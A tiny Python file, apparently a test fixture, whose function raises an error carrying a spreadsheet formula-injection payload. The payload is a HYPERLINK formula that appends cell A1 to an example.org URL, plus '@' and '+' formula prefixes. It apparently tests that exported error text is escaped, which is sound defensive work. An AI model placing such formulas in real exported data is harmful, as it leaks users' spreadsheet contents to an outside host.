# mypy: ignore-errors
"""Raises an error whose text is a spreadsheet's formula.

Expected: zero
"""

def double(x):
    raise ValueError('=HYPERLINK("http://example.org?"&A1,"10")\n@SUM(1)\t+1')
